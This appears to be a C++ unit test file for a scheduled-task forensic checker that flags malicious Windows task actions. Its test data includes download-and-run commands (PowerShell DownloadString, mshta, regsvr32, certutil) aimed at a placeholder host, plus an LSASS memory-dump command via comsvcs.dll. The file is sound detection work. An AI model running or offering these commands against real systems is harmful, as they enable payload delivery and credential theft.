#include "exchange/task_check.h"

#include <string>

#include <gtest/gtest.h>

namespace postern::exchange {
namespace {

std::string task_xml(std::string_view command, std::string_view arguments,
                     std::string_view user = "DOMAIN\\admin", bool hidden = false) {
  return "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Task version=\"1.2\" "
         "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><RegistrationInfo>"
         "<Date>2021-03-04T05:06:07</Date><Author>DOMAIN\\admin</Author></RegistrationInfo>"
         "<Principals><Principal id=\"A\"><UserId>" +
         std::string(user) + "</UserId></Principal></Principals><Settings><Hidden>" +
         (hidden ? "true" : "false") +
         "</Hidden></Settings><Actions Context=\"A\"><Exec><Command>" + std::string(command) +
         "</Command><Arguments>" + std::string(arguments) + "</Arguments></Exec></Actions></Task>";
}

std::string as_utf16(std::string_view text) {
  std::string out = "\xFF\xFE";
  for (const char c : text) {
    out += c;
    out += '\0';
  }
  return out;
}

TEST(ReadTask, TakesUtf16AsWindowsWritesIt) {
  const auto task = read_task(octets_of(as_utf16(task_xml("cmd.exe", "/c x"))));
  ASSERT_TRUE(task.has_value()) << task.error().text;
  ASSERT_EQ(task->actions.size(), 1U);
  EXPECT_EQ(task->actions[0].command, "cmd.exe");
  EXPECT_EQ(task->actions[0].arguments, "/c x");
  EXPECT_EQ(task->user, "DOMAIN\\admin");
  EXPECT_EQ(task->created, "2021-03-04T05:06:07");
  EXPECT_FALSE(read_task(octets_of("<Job/>")).has_value());
  EXPECT_FALSE(read_task(octets_of("torn")).has_value());
  EXPECT_FALSE(read_task({}).has_value());
}

TEST(CheckTask, JudgesByWhatItRuns) {
  const struct {
    std::string command, arguments;
    int at_least;  // 0: nothing is said.
  } cases[] = {
      {"C:\\ProgramData\\VSPerfMon\\x.exe", "", 60},
      {"C:\\Users\\Public\\a.exe", "", 60},
      {"%ProgramData%\\a.bat", "", 60},
      {"powershell.exe", "-nop -w hidden -enc ZQBjAGgAbwAgAGgAZQBsAGwAbwA=", 75},
      {"powershell.exe", "-NoP -e ZQBjAGgAbwAgAGgAZQBsAGwAbwA=", 75},
      {"powershell.exe", "-c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
       80},
      {"mshta.exe", "http://x.example/a.hta", 80},
      {"rundll32.exe", "C:\\windows\\system32\\comsvcs.dll, MiniDump 600 x full", 90},
      {"regsvr32.exe", "/s /u /i:http://x.example/a.sct scrobj.dll", 80},
      {"certutil.exe", "-urlcache -f http://x.example/a a.exe", 80},
      {"wscript.exe", "C:\\Windows\\Temp\\a.vbs", 70},
      {"C:\\Windows\\System32\\defrag.exe", "-c -h", 0},
      {"%windir%\\system32\\rundll32.exe", "Startupscan.dll,SusRunTask", 0},
      {"powershell.exe", "-File C:\\Scripts\\backup.ps1 -Encoding utf8", 0},
      {"powershell.exe", "-ExecutionPolicy Bypass -File C:\\Scripts\\a.ps1", 0},
      {"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4\\MpCmdRun.exe", "Scan", 0},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.command + " " + c.arguments);
    const auto task = read_task(octets_of(task_xml(c.command, c.arguments)));
    ASSERT_TRUE(task.has_value());
    const auto findings = check_task("Windows/System32/Tasks/x", *task, "");
    EXPECT_EQ(findings.empty(), c.at_least == 0);
    EXPECT_GE(findings.empty() ? 0 : findings.front().confidence, c.at_least);
  }
}

TEST(CheckTask, RanksHigherWhatHidesAndIsOfTheSystem) {
  const auto confidence = [](std::string_view user, bool hidden, std::string_view from) {
    const auto task = read_task(octets_of(task_xml("C:\\ProgramData\\a.exe", "", user, hidden)));
    return check_task("Tasks/x", *task, from).at(0).confidence;
  };
  EXPECT_EQ(confidence("x", false, ""), 60);
  EXPECT_EQ(confidence("S-1-5-18", false, ""), 65);
  EXPECT_EQ(confidence("S-1-5-18", true, ""), 73);
  EXPECT_EQ(confidence("S-1-5-18", true, "2021-01-03"), 78);
  EXPECT_EQ(confidence("S-1-5-18", true, "2021-04-01"), 73);
}

TEST(CheckTask, TheNameOfAKnownTaskIsEnough) {
  const auto task = read_task(octets_of(task_xml("C:\\Windows\\System32\\svchost.exe", "-k x")));
  const auto findings = check_task("Windows/System32/Tasks/Microsoft/VSPerfMon", *task, "");
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].rule, "F-12");
  EXPECT_GE(findings[0].confidence, 90);
  const auto writable = read_task(octets_of(task_xml("C:\\ProgramData\\VSPerfMon\\a.bat", "")));
  EXPECT_EQ(check_task("Tasks/VSPerfMon", *writable, "").size(), 2U);
}

TEST(CheckTask, ShowsTheEncodedCommandDecoded) {
  const auto task =
      read_task(octets_of(task_xml("powershell.exe", "-enc ZQBjAGgAbwAgAGgAZQBsAGwAbwA=")));
  const auto findings = check_task("Tasks/x", *task, "");
  ASSERT_EQ(findings.size(), 1U);
  bool shown = false;
  for (const Detail& detail : findings[0].details)
    shown = shown || detail == Detail{"decoded", "echo hello"};
  EXPECT_TRUE(shown);
}

}  // namespace
}  // namespace postern::exchange
